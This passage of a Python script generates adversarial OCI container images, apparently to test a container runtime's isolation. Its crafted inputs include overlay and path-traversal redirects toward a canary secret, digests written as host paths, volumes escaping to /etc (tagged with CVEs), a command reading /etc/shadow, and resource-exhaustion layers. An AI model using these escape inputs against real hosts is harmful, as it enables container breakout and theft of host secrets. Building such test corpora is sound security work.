        [file("stolen", "", pax=overlay("trusted", metacopy="", redirect=f"/../../..{canary}/secret"))], **stolen)
    case(
        "xattr-user", "The layer has the marks of an unprivileged overlay.", "either",
        [folder("x", pax=overlay("user", opaque="y", redirect="/../../.." + canary)), file("stolen", "", pax=overlay("user", metacopy=""))],
        **stolen)
    case("name-300", "A name is longer than a file system allows.", "refused", [file("n" * 300, "")])
    case(
        "name-bytes", "Names are not UTF-8, or hold control characters.", "either",
        [file("\udcff\udcfe\udc80", "", form=tarfile.GNU_FORMAT), file("new\nline\ttab\x1b[2J", ""), file("a\\b:c,d", "")])
    case("deep", "A tree is 1000 levels deep.", "runs", [folder("/".join("d" * (level + 1))) for level in range(0, 1000)])
    case(
        "flips", "A name is in turn a directory, a file and a link, and then a parent.", "either",
        [folder("x"), file("x/f", ""), file("x", "file\n"), link("x", f"{canary}/dir"), folder("x"), link("x", f"{canary}/dir"),
         file("x/berth-escaped", escaped)])
    case("no-entries", "A layer holds nothing.", "runs", [])

    def special(name, why, expect, layer, **options):
        corpus.case(f"layer-{name}", "layers", why, expect, layers=[corpus.base, layer], **options)

    good, size, diff = (pack([file(name, "special\n")]) for name in ("digest", "size", "diff"))
    noise = b"".join(hashlib.sha256(bytes([number])).digest() for number in range(64))
    broken = gzip.compress(file("broken", noise) + bytes(1024), 6, mtime=0)
    broken = broken[:500] + bytes(500) + broken[1000:1500]
    other = gzip.compress(b"other", mtime=0)
    special("empty-blob", "A layer's blob has no bytes.", "either", Layer(b"", digest(b"")))
    special("corrupt-gzip", "A layer's compressed data is damaged and ends early.", "refused", Layer(broken, digest(noise), TAR + "+gzip"))
    special("wrong-digest", "A layer's content is not what its digest says.", "refused", Layer(good.data, good.diff_id, TAR + "+gzip", digest(other)))
    special("wrong-size", "A layer's size is not what the manifest says.", "either",
            Layer(size.data, size.diff_id, TAR + "+gzip", size=1 << 40))
    special("wrong-diff-id", "The configuration names another content for the layer.", "either", Layer(diff.data, digest(b"other"), TAR + "+gzip"))
    special("digest-path", "A layer's digest is a path to a file of the host.", "refused",
            Layer(None, digest(b"path"), TAR, f"sha256:../../..{UP}{canary}/secret", 47))
    special(
        "foreign-url", "A layer is to be fetched from a service of the host.", "refused",
        Layer(None, digest(b"foreign"), "application/vnd.oci.image.layer.nondistributable.v1.tar", digest(b"foreign"), 7,
              {"urls": [f"file://{canary}/secret", "http://127.0.0.1:9/"]}))


def configurations(corpus):
    canary = corpus.canary

    def case(name, why, expect, image=None, output=None, kind="config", **options):
        corpus.case(f"config-{name}", kind, why, expect, "end" if expect == "runs" and output is None else output, image=image, **options)

    nul = "What follows a NUL is checked but not used."
    case("nul-env", nul, "refused", {"Env": ["A=b\0c", "PATH=/bin"]})
    case("nul-cmd", nul, "refused", {"Cmd": ["/bin/sh", "-c", corpus.probe(), "a\0b"]})
    case("nul-stop-signal", nul, "refused", {"StopSignal": "SIGTERM\0KILL"})
    case("env-odd", "Entries of the environment have no '=', no name, or a name of two lines.", "runs",
         {"Env": ["PLAIN", "=value", "", "=", "A\nB=c", "A B=c", "BERTH_RUN_ID=forged", "HOSTNAME=../../x"]})
    case("env-10-mb", "The environment is larger than the kernel takes.", "refused",
         {"Env": [f"V{number}=" + "x" * 1000 for number in range(10_000)]})
    case("20-mb", "The configuration takes 20 MB of memory.", "refused", {"Labels": {"padding": "x" * 20_000_000}})
    case("entrypoint-null", "The entrypoint is null.", "runs", raw=lambda body: encode(body).replace(b'"Cmd":', b'"Entrypoint":null,"Cmd":', 1))
    case("entrypoint-number", "The entrypoint is a number.", "refused", {"Entrypoint": 7})
    case("entrypoint-nested", "The entrypoint is a list in a list.", "refused", {"Entrypoint": [["/bin/sh"]]})
    case("cmd-100000-words", "The command has 100,000 words.", "either", {"Cmd": ["/bin/sh", "-c", corpus.probe()] + ["x"] * 100_000})
    copied = "CVE-2022-23648"
    case("volumes-odd", "The image's own volumes have no path, or the root's.", "either", {"Volumes": {"": {}, "/": {}, ".": {}}}, kind=copied)
    case("volumes-up", "The image's own volumes climb to directories of the host.", "either",
         {"Volumes": {"/../../etc": {}, f"/..{UP}{canary}": {}}}, kind=copied, after="read -r l < /etc/shadow && echo ESCAPED")
    case("volumes-link", "The image's own volume is a link to a directory of the host.", "either", {"Volumes": {"/data": {}}}, kind=copied,
         add=[link("data", f"..{UP}{canary}")], after="cat /data/secret")
    case("volumes-proc", "The image's own volume covers /proc.", "either", {"Volumes": {"/proc": {}, "/sys": {}, "/dev": {}}}, kind="CVE-2019-16884")
    for name, signal in (("overflow", "SIGRTMIN+2147483647"), ("minus-one", "-1"), ("long", "99999999999")):
        case(f"stop-signal-{name}", "The stop signal is no signal, and its number overflows.", "runs", {"StopSignal": signal})
    case("healthcheck", "The health check is junk.", "either", {"Healthcheck": {"Test": [None, 7, {"a": []}], "Interval": -1, "Retries": "many"}})
    case(
        "labels-runtime", "Labels and annotations ask a runtime for hooks and another handler.", "runs",
        {"Labels": {"run.oci.handler": "wasm", "run.oci.hooks.stderr": f"{canary}/dir/berth-escaped", "run.oci.keep_original_groups": "1",
                    "run.oci.mount_context_type": "x", "case": "config-labels-runtime"}},
        manifest=lambda body: body.update(annotations={"run.oci.hooks.stdout": f"{canary}/dir/berth-escaped"}))
    case("os-windows", "The image is for another operating system.", "either", top={"os": "windows"})
    case("nested", "The configuration nests 5000 levels deep and overruns its reader's stack.", "either",
         raw=lambda body: encode(body)[:-1] + b',"nested":' + b"[" * 5000 + b"]" * 5000 + b"}")
    case("surrogate", "A text of the configuration is half a character.", "either", {"Env": ["A=\ud800", "B=\udfff\ud800"]})
    case("no-config", "The configuration's blob is not there.", "refused",
         finish=lambda _, configuration: os.remove(configuration))
    case("no-layers", "The image has no layers.", "refused", layers=[])
    case("config-digest-path", "The configuration's digest is a path to a file of the host.", "refused",
         manifest=lambda body: body["config"].update(digest=f"sha256:../../..{UP}{canary}/secret"))
    case("two-manifests", "The index holds two manifests, and nothing says which one is meant.", "refused",
         index=lambda body: body["manifests"].append({**body["manifests"][0], "annotations": {"org.opencontainers.image.ref.name": "other"}}))
    case("annotations-odd", "Annotations hold a name that is a path, NULs and nothing.", "either",
         index=lambda body: body["manifests"][0].update(annotations={
             "org.opencontainers.image.ref.name": "../../../berth-escaped", "": "", "a\0b": "c\0d", "io.containerd.image.name": "/etc/passwd"}))

    def index_link(layout, _):
        os.remove(f"{layout}/index.json")
        os.symlink(f"{canary}/secret", f"{layout}/index.json")

    case("index-link", "The index is a link to a file of the host, of which an error could tell.", "refused", finish=index_link)


def slow(corpus):
    """Many layers, which share their blobs and their order, and what can keep an unpacker busy: at the end."""
    many = [pack([folder("l"), file(f"l/{number}", f"{number}\n")]) for number in range(600)]
    check = 'n=0; while [ -f /l/$n ]; do n=$((n+1)); done; echo $n'
    for count, expect, output in ((130, "runs", "129\nend"), (200, "runs", "199\nend"), (600, "refused", None), (10_000, "refused", None)):
        corpus.case(
            f"layers-{count}", "layers", f"The image has {count} layers.", expect, output, layers=[corpus.base] + (many * 17)[:count - 1], before=check)
    corpus.case(
        "layer-sparse-8-tib", "layers", "A file claims to be 8 TiB long, nearly all of it a hole.", "either", add=[sparse("huge", 8 << 40)])

    def grown(name):
        def grow(layout, configuration):
            listing = json.load(open(f"{layout}/index.json"))
            manifest = f"{layout}/blobs/sha256/" + listing["manifests"][0]["digest"][7:]
            path = {"index": f"{layout}/index.json", "manifest": manifest, "config": configuration}[name]
            os.truncate(path, 1 << 30)
        return grow

    for name in ("index", "manifest", "config"):
        corpus.case(f"gigabyte-{name}", "layers", f"The {name} has a gigabyte, nearly all of it a hole.", "either" if name == "index" else "refused", finish=grown(name))


# ---- The whole ----

def write_canary(path):
    os.makedirs(f"{path}/dir")
    with open(f"{path}/secret", "w") as target:
        target.write(f"CANARY-SECRET-{secrets.token_hex(16)}\n")
    with open(f"{path}/dir/kept", "wb") as target:
        target.write(KEPT)
    os.chmod(f"{path}/dir/kept", 0o755)


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: images.py OUT")
    if ARCHITECTURE is None:
        sys.exit(f"there are no images for {MACHINE}, only for x86_64 and aarch64")
    os.umask(0o022)
    out = os.path.realpath(sys.argv[1])
    os.makedirs(out, exist_ok=True)
    if os.listdir(out):
        sys.exit(f"{out} is not empty")
    corpus = Corpus(out)
    write_canary(corpus.canary)
    for family in (working_directories, entrypoints, users, accounts, sandbox_places, volumes, layers, configurations, slow):
        family(corpus)
    with open(f"{out}/cases.json", "w") as target:
        json.dump(corpus.cases, target, indent=1)
        target.write("\n")


if __name__ == "__main__":
    main()
